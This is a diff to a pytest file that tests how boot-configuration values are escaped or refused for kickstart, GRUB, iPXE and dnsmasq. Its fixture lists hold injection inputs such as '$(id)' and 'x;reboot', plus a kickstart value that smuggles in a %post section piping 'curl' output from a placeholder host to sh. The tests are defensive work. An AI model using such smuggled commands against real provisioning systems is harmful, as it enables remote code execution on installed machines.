@@ -20,7 +20,7 @@ HOSTILE = ["a b", "x;reboot", "$(id)", "${net0/mac}", "it's", 'say "hi"', "back\
 LINE_BREAKS = ["a\nb", "a\rb", "a\tb", "a\x00b", "http://x/site.ks\n%post\ncurl\thttp://x/y|sh\n%end"]
 
 
-@pytest.mark.parametrize("value", HOSTILE + ["plain-word", "console=ttyS0,115200"])
+@pytest.mark.parametrize("value", [*HOSTILE, "plain-word", "console=ttyS0,115200"])
 def test_kickstart_words_read_back_whole_by_shlex_as_pykickstart_splits(value):
     assert shlex.split(f"bootloader --append={escape.kickstart(value)}", comments=True) == [
         "bootloader", f"--append={value}"]
@@ -53,7 +53,7 @@ def test_grub_quotes_what_its_lexer_would_read(tmp_path, value, written):
     run(["grub-script-check", script])  # GRUB's own parser: the quoting is balanced
 
 
-@pytest.mark.parametrize("value", HOSTILE + ["||", ":label", "a&&b"])
+@pytest.mark.parametrize("value", [*HOSTILE, "||", ":label", "a&&b"])
 def test_ipxe_has_no_quoting_so_refuses(value):
     with pytest.raises(escape.EscapeError, match="an iPXE script, which has no quoting"):
         escape.ipxe(value)
@@ -61,7 +61,7 @@ def test_ipxe_has_no_quoting_so_refuses(value):
 
 @pytest.mark.parametrize("value", ["a b", "tag:x,y", "#x", 'a"b', "a\\b"])
 def test_dnsmasq_refuses_separators_comments_and_quotes(value):
-    with pytest.raises(escape.EscapeError, match="dnsmasq.conf, which has no quoting"):
+    with pytest.raises(escape.EscapeError, match=r"dnsmasq\.conf, which has no quoting"):
         escape.dnsmasq(value)
 
 
